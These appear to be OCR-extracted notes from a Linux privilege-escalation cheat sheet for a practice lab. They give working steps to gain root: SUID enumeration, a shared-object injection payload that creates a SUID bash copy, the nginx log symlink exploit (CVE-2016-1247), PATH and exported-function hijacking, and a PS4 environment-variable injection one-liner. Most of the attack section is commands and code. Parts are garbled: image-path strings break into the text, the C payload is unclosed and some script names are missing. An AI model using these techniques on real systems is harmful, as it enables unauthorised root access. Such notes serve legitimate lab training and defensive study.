• find / -perm -u=s -type f 2>/dev/null will list all the files with the suid perm


  • Here again we can use GTFOBins and check if our command is in there and has documented exploitation


SUID - Shared Object Injection


  • find / -type f -perm -04000 -ls 2>/dev/null

  • ls -al nameoffile


  • In our example the file is /usr/local/bin/suid-so

  • strace /usr/local/bin/suid-so 2>&1 with a grep on what could be interesting strace /usr/local/bin/suid-so 2>&1 | grep -i -E "open|access|no such file" this will show us what happens with the file. This is the place to check if we have rights on one of the file it uses. In our example we will use the file in this outputopen("/home/user/.config/", O_RDONLY) = -1 ENOENT (No such file or directory)

  • Once we find a file we can try to overwrite it with a payload to elevate our privileges

#include <stdio.h>
#include <stdlib.h>

static void inject() __attribute__((constructor));

void inject() {
    system("cp /bin/bash /tmp/bash && chmod +s /tmp/bash && /tmp/bash -p");
  • We make a directory for our file

  • We compile our file gcc -shared -fPIC -o /home/user/.config/ /home/user/libcalc.c in myexample the file I will overright is /home/user/.config/

  • This way we just need to run the sid file which is /usr/local/bin/suid-so in our example

  • Issues on log created by nginx


  • ./ we should have this output [+] [CVE-2016-1247] or we could manually look forthis specific vulnerability by checking nginx version dpkg -l | grep nginx

  • Now we need to check if the suid bit is set on sudo find / -type f -perm -04000 -ls 2>/dev/null or ls -al /usr/bin/sudo


  • ls -al /var/log/nginx

  • We will need to create a malicious symlink

  • We will use this to do so

  • ./ /var/log/nginx/error.log

  • Check out this resource to learn more about this way to escalate

SUID - Environmental Variables



  • Let's create a malicious service and add it to our path so that it is launched instead of apache• echo 'int main() {setgid(0); setuid(0); system("/bin/bash"); return 0;}' > /tmp/service.c

  • gcc /tmp/service.c -o /tmp/service

SUID - Environmental Variables with full path to binary

  • function /usr/sbin/service() { cp /bin/bash /tmp && chmod +s /tmp/bash && /tmp/bash -p; } instead of creating a malicious bin we create a maliciousfunction

  • export -f /usr/sbin/service then we export our function in the path

  • /usr/local/bin/suid-env2 finally we just need to launch the service OR

  • env -i SHELLOPTS=xtrace PS4='$(cp /bin/bash /tmp && chown root.root /tmp/bash && chmod +s /tmp/bash)' /bin/sh -c'/usr/local/bin/suid-env2; set +x; /tmp/bash -p'

Last updated